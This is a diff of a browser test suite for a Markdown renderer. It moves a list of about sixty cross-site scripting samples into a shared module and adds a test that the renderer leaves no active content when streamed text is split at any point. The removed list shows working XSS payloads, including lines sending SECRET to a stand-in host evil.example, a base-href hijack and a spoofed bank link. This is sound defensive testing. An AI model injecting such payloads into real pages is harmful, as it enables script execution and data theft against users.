@@ -1,73 +1,8 @@
 import { expect } from 'chai';
 import type { Page } from 'playwright-core';
 import { BrowserWorld } from '../support/browser-world.js';
+import { hostileMarkdown, hostileSamples as samples } from '../support/hostile-samples.js';
 import { until } from '../support/until.js';
-
-/** Ways in that have worked elsewhere: raw markup, markdown, links, overlays, things that fetch. */
-const samples = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/?q=SECRET">',
-  '![x](https://evil.example/pixel.png)',
-  '![x](javascript:alert(1))',
-  '[click](javascript:alert(1))',
-  '[click](JaVaScRiPt:alert(1))',
-  '[click](java&#x0A;script:alert(1))',
-  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[click](vbscript:msgbox(1))',
-  '[ref]\n\n[ref]: javascript:alert(1)',
-  '<a href="javascript:alert(1)">x</a>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example/x.swf"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<form action="https://evil.example/"><input name=q value=SECRET><button>go</button></form>',
-  '<input onfocus=alert(1) autofocus>',
-  '<select onfocus=alert(1) autofocus><option>x</select>',
-  '<textarea onfocus=alert(1) autofocus></textarea>',
-  '<video src=x onerror=alert(1)></video>',
-  '<audio src=https://evil.example/a.mp3 autoplay></audio>',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999">overlay</div>',
-  '<style>*{display:none}</style>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
-  '<base href="https://evil.example/">',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<p title="`<img src=x onerror=alert(1)>`">',
-  '`<img src=x onerror=alert(1)>`',
-  '```html\n<script>alert(1)</script>\n```',
-  '```\n</code></pre><script>alert(1)</script>\n```',
-  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
-  '<a href="//evil.example/x">x</a>',
-  '<http://evil.example/"onmouseover="alert(1)>',
-  '<javascript:alert(1)>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;img src=x onerror=alert(1)&#62;',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  '<img src=`javascript:alert(1)`>',
-  '<isindex action=javascript:alert(1) type=submit>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<x contenteditable onblur=alert(1)>lose focus</x>',
-  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
-  '- [ ] <img src=x onerror=alert(1)>',
-  '> <script>alert(1)</script>',
-  '# <svg/onload=alert(1)>',
-  '\u202Egnp.exe\u202C [\u200Bhttps://bank.example](https://evil.example/)',
-  '[a](https://evil.example/ "title\\" onmouseover=alert(1)")',
-];
 
 describe('W3 hostile text in a real browser', function () {
   this.timeout(180_000);
@@ -122,9 +57,41 @@ describe('W3 hostile text in a real browser', function () {
     await page.getByTestId('composer-input').click({ trial: true, timeout: 5000 });
   });
 
+  it('does nothing wherever a stream is split, in every place of a Markdown text', async () => {
+    const acting = await page.evaluate(`(${streamed})(${JSON.stringify(hostileMarkdown)})`);
+    expect(acting).to.deep.equal([]);
+    expect(world.incidents).to.deep.equal([]);
+  });
+
   it('shows a hostile name on the dashboard as a name', async () => {
     await page.goto(`${world.server.url}/`);
     await page.getByTestId('session-card').getByText('<img src=x onerror=alert(1)>').first().waitFor();
     expect(world.incidents).to.deep.equal([]);
   });
 });
+
+/** Runs in the page: draws each text in two pieces, split at every place, and gives what could act afterwards. */
+const streamed = `async (texts) => {
+  const found = new Set();
+  const place = document.querySelector('main');
+  for (const text of texts) {
+    const elements = [];
+    for (let at = 1; at < text.length; at += 1) {
+      const element = document.createElement('mx-markdown');
+      element.text = text.slice(0, at);
+      place.append(element);
+      elements.push(element);
+    }
+    await Promise.all(elements.map((element) => element.updateComplete));
+    for (const element of elements) element.text = text;
+    await Promise.all(elements.map((element) => element.updateComplete));
+    for (const element of elements) {
+      for (const one of element.querySelectorAll('script,iframe,object,embed,form,link,meta,base,style,video,audio,template,svg,math,img,[style],[onerror],[onload],[onclick],[onfocus]'))
+        found.add(one.outerHTML.slice(0, 120));
+      for (const link of element.querySelectorAll('a'))
+        if (!/^https?:/.test(link.href) || !/noopener/.test(link.rel)) found.add(link.outerHTML.slice(0, 120));
+      element.remove();
+    }
+  }
+  return [...found];
+}`;
